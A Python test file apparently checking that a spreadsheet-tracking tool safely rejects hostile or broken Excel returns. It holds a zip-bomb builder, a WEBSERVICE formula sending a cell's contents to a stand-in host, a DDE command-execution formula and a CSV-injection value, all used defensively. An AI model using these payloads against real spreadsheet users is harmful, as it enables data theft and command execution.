"""Returns a lead may send by mistake or in anger: refused or read safely, nothing written."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from improvetrack.files import store
from tests.conftest import Invoke
from tests.packs import QA_PACK, fill


@pytest.fixture
def pack(invoke: Invoke, sample: Path) -> Path:
    result = invoke("updates", "request", "--as-of", "2026-11-02")
    assert result.exit_code == 0, result.output
    return sample.parent / "update-packs" / QA_PACK


def _refused(invoke: Invoke, sample: Path, path: Path, said: str) -> None:
    held = sample.read_bytes()
    result = invoke("updates", "collect", str(path))
    assert result.exit_code == 2, result.output
    assert said in result.output
    assert "Traceback" not in result.output
    assert sample.read_bytes() == held


def test_a_zip_bomb_is_refused(invoke: Invoke, sample: Path, pack: Path, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(pack) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        # 250 MB of one byte, a few hundred kilobytes once compressed.
        with out.open("xl/media/padding.bin", "w") as stream:
            block = b"\0" * (1 << 20)
            for _ in range(250):
                stream.write(block)
    assert bomb.stat().st_size < 2_000_000
    _refused(invoke, sample, bomb, "inflates to over 200 MB")


def test_a_workbook_of_a_thousand_sheets_is_refused(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path
) -> None:
    book = load_workbook(pack)
    for number in range(1000):
        book.create_sheet(f"S{number}")
    path = tmp_path / "sheets.xlsx"
    book.save(path)
    _refused(invoke, sample, path, "over 100 sheets")


def test_a_damaged_file_is_refused(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path
) -> None:
    path = tmp_path / "cut.xlsx"
    path.write_bytes(pack.read_bytes()[:3000])
    _refused(invoke, sample, path, "not a readable Excel workbook")


def test_a_workbook_that_is_no_pack_is_refused(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path
) -> None:
    path = tmp_path / "export.xlsx"
    assert invoke("export", "--format", "xlsx", "--output", str(path)).exit_code == 0
    _refused(invoke, sample, path, "not an update pack of improvetrack")


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://example.invalid/leak?"&A7)',
        "=cmd|' /C calc'!A0",  # DDE
        '=HYPERLINK("https://example.invalid","click")',
    ],
)
def test_formulas_are_never_evaluated(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path, formula: str
) -> None:
    path = fill(
        pack,
        tmp_path / "formula.xlsx",
        {("ASM-3", "Update"): formula, ("ASM-3", "Evidence"): formula},
    )
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-10")
    assert result.exit_code == 0, result.output
    action = store.read(sample).register.actions["ASM-3"]
    # The file holds no saved value for them: the cells read as blank.
    assert not any("example.invalid" in entry.text or "cmd" in entry.text for entry in action.log)
    assert not any("example.invalid" in link for link in action.evidence)


def test_a_formulas_saved_value_is_read_as_text(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path
) -> None:
    """A return saved by Excel holds each formula's last value beside it: that value is
    read, as text, and the formula itself never is."""
    filled = fill(pack, tmp_path / "filled.xlsx", {("ASM-3", "Update"): "PLACEHOLDER"})
    path = tmp_path / "saved.xlsx"
    with zipfile.ZipFile(filled) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode("utf-8")
                start = text.index('<c r="J7"')
                end = text.index("</c>", start) + len("</c>")
                assert "PLACEHOLDER" in text[start:end]
                cell = (
                    '<c r="J7" t="str"><f>WEBSERVICE("https://example.invalid/")</f>'
                    "<v>=Audit running</v></c>"
                )
                data = (text[:start] + cell + text[end:]).encode("utf-8")
            out.writestr(item, data)
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-10")
    assert result.exit_code == 0, result.output
    action = store.read(sample).register.actions["ASM-3"]
    assert action.latest_update is not None
    assert action.latest_update.text == "=Audit running"
    shown = invoke("report", "--format", "csv").output
    assert ",=Audit running" not in shown  # the register's text stays inert in a CSV


def test_every_file_is_checked_before_one_line_ends_it(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path
) -> None:
    bad = fill(pack, tmp_path / "bad.xlsx", {("ASM-3", "Your RAG"): "purple"})
    held = sample.read_bytes()
    result = invoke("updates", "collect", str(tmp_path / "missing.xlsx"), str(bad))
    assert result.exit_code == 2
    lines = result.output.splitlines()
    assert lines[0].endswith("missing.xlsx: no such file")
    assert lines[1].startswith("bad.xlsx, Update!H7 (Your RAG): 'purple' is not a RAG")
    assert lines[-1].startswith("error: 2 problems in the returns")
    assert sample.read_bytes() == held


def test_a_sheet_reaching_a_million_rows_is_refused(
    invoke: Invoke, sample: Path, pack: Path, tmp_path: Path
) -> None:
    path = tmp_path / "rows.xlsx"
    with zipfile.ZipFile(pack) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                far = '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'
                data = data.replace(b"</sheetData>", far.encode() + b"</sheetData>")
            out.writestr(item, data)
    _refused(invoke, sample, path, "over 100,000 rows")
